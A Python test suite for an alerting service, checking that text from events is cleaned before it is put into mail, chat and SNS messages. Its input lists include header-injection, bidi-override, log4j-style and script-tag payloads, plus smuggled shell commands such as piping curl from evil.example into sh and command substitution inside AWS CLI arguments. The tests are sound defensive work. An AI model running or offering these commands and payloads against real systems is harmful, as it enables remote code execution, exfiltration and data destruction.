"""Whatever others wrote into a name, people read it as text: no header, link, mention, markup or hidden character."""

import json
import re
import unicodedata
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alerting.domain.alert import Channel, PendingAlert
from alerting.domain.foreign_text import (
    MAX_SUBJECT,
    Sentence,
    clean,
    code_span,
    is_clean,
    is_iam_command,
    subject,
    without_links,
)
from alerting.domain.formats.chat import notification
from alerting.domain.formats.mail import WITHHELD, body_of, safe_command, subject_of
from alerting.domain.open_items import FINDING, ROTATION, SCAN, OpenItem, State
from alerting.domain.routing import Digest
from alerting.domain.summaries import Context, digest_alert, flood_alert
from policy_drift.report import iam_commands
from steward.severity import Severity
from tests.published_events import NAMES, alert_about, golden_event

NASTY = [
    "a\r\nBcc: everybody@example.com",
    "<!channel> <@U123> <https://evil.example|your report>",
    "*bold* _it_ ~no~ `code` ```block``` > quote",
    "[click](https://evil.example) ![x](https://evil.example/x.png) # heading",
    "pay\u202ecod.exe \u2066hidden\u2069 \u200bzero \ufeffbom",
    "\x00\x07\x1b[31mred\x1b[0m\x7f\x85",
    "\u2028line\u2029paragraph",
    "{} {0} {body.__class__} %s ${jndi:ldap://evil}",
    "@everyone @here @channel",
    "<script>alert(1)</script> &lt;b&gt;",
    "\ud800",
    "x" * 5_000,
    "\u202e" * 5_000,
]
HOSTILE = st.one_of(st.sampled_from(NASTY), st.text(max_size=700), st.characters(categories=["Cs", "Cf", "Cc"]))


def said_by_others(value, text):
    """An event's data, with this text in the place of every text in it."""
    match value:
        case dict():
            return {key: said_by_others(item, text) for key, item in value.items()}
        case list():
            return [said_by_others(item, text) for item in value]
        case str():
            return text
    return value


def hostile_alert(name, text):
    event = golden_event(name)
    event["detail"]["data"] = said_by_others(event["detail"]["data"], text)
    return alert_about(event)


@given(HOSTILE)
def test_a_cleaned_text_is_one_line_of_characters_that_show(text):
    shown = clean(text)

    assert is_clean(shown)
    assert len(shown) <= 500
    assert shown.splitlines() in ([], [shown])


@given(HOSTILE)
def test_code_for_chat_cannot_be_left_and_holds_no_control_sequence(text):
    inside = code_span(text)[1:-1]

    assert inside
    assert not set("<>`\n") & set(inside)
    assert re.sub(r"&(amp|lt|gt);", "", inside).count("&") == 0


@given(HOSTILE)
def test_a_subject_is_a_header_of_its_own_and_of_a_length_that_sns_takes(text):
    made = subject(text)

    assert 1 <= len(made) <= MAX_SUBJECT
    assert all(" " <= character <= "~" for character in made)


@pytest.mark.parametrize("text", ["https://evil.example", "ftp://x", "www.evil.example", "wWw.evil.example"])
def test_no_link_is_left_for_a_mail_program_to_find(text):
    shown = without_links(text)

    assert "://" not in shown
    assert "www." not in shown.lower()
    assert without_links(shown) == shown


@given(st.sampled_from(NAMES), HOSTILE)
def test_every_mail_keeps_its_form_with_any_event(name, text):
    alert = hostile_alert(name, text)

    mail, header = body_of(alert), subject_of(alert)

    assert "\r" not in mail
    assert all(
        unicodedata.category(character) not in {"Cc", "Cf", "Cs", "Zl", "Zp"} for character in mail if character != "\n"
    )
    assert not re.search(r"(?im)^(bcc|to|cc|content-type):", mail)
    assert not any("://" in line for line in mail.splitlines() if not line.startswith("    "))  # commands are as pasted
    assert "\n" not in header


@given(st.sampled_from(NAMES), HOSTILE)
def test_every_chat_message_has_others_words_in_code_only(name, text):
    told = notification(hostile_alert(name, text))

    shown = [told["content"]["title"], told["content"]["description"], *told["content"]["nextSteps"]]
    for text_of_ours in (re.sub(r"`[^`\n]*`", "", part) for part in shown):
        assert "`" not in text_of_ours
        assert not set("<>@") & set(text_of_ours)
        assert "://" not in text_of_ours
        assert "evil" not in text_of_ours
    assert all(is_clean(part.replace("\n", "")) for part in shown)


PENDING = st.builds(
    PendingAlert, HOSTILE, HOSTILE, st.sampled_from(Severity), HOSTILE, st.just(frozenset({Channel.MAIL}))
)
CONTEXT = Context("e", datetime(2026, 5, 4, 12, tzinfo=UTC), "123456789012", "ca-central-1")
TIMES = st.datetimes(timezones=st.just(UTC))
ITEMS = st.builds(
    OpenItem,
    st.sampled_from([FINDING, ROTATION, SCAN]),
    HOSTILE,
    st.sampled_from(State),
    st.sampled_from(Severity),
    HOSTILE,
    HOSTILE,
    TIMES,
    HOSTILE,
)


@given(st.lists(PENDING, min_size=1, max_size=4), st.lists(ITEMS, max_size=4))
def test_messages_of_many_alerts_keep_their_form_with_any_alerts(pending, items):
    flood = flood_alert(pending, listed_titles=3, context=CONTEXT)
    digest = digest_alert(items, pending, Digest(), context=CONTEXT)

    for alert in (flood, digest):
        assert all(is_clean(line) for line in body_of(alert).split("\n"))
        assert "://" not in body_of(alert)
        description = re.sub(r"`[^`\n]*`", "", notification(alert)["content"]["description"])
        assert not set("`<>@") & set(description)
        assert "evil" not in description


@given(st.sampled_from(NAMES), HOSTILE)
def test_a_message_with_both_texts_fits_into_sns(name, text):
    """256 KiB: https://docs.aws.amazon.com/sns/latest/api/API_Publish.html."""
    alert = hostile_alert(name, text)

    both = json.dumps({"default": body_of(alert), "https": json.dumps(notification(alert))}, ensure_ascii=False)

    assert len(both.encode("utf-8", "surrogatepass")) < 256 * 1024


@given(HOSTILE)
def test_a_command_is_shown_as_it_would_be_pasted_or_not_at_all(text):
    shown = safe_command(f"aws iam get-role --role-name {text}")

    assert shown is None or (shown.endswith(text) and is_clean(shown))


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example | sh",
        "aws iam delete-role --role-name x; curl evil.example",
        "aws iam delete-role --role-name $(curl evil.example)",
        "aws iam delete-role --role-name `id`",
        "aws iam delete-role --role-name x > ~/.bashrc",
        'aws iam delete-role --role-name "$HOME"',
        "aws iam delete-role --role-name 'x",
        "aws iam put-role-policy --policy-document file:///etc/passwd",
        "aws iam put-role-policy --policy-document=http://evil.example",
        "aws s3 rm --recursive x",
        "sudo aws iam delete-role --role-name x",
    ],
)
def test_a_command_that_is_not_one_of_iam_alone_is_withheld(command):
    assert safe_command(command) is None


@given(HOSTILE, HOSTILE)
def test_every_command_that_policy_drift_writes_is_shown(name, text):
    try:
        command = iam_commands.command("put-role-policy", role_name=name, policy_document={"Sid": text})
    except iam_commands.UnsafeTextError:
        return

    assert is_iam_command(command)


def test_a_command_with_characters_that_do_not_show_is_withheld_and_said_so():
    event = golden_event("PolicyDriftDetected", revert=["aws iam delete-role --role-name x\u202e", "aws iam ok"])

    mail = body_of(alert_about(event))

    assert f"    {WITHHELD}\n    aws iam ok\n" in mail


def test_our_words_stay_ours_when_others_write_braces():
    assert Sentence.of("{} did {}", "{1}", "{0.x}").plain() == "{1} did {0.x}"
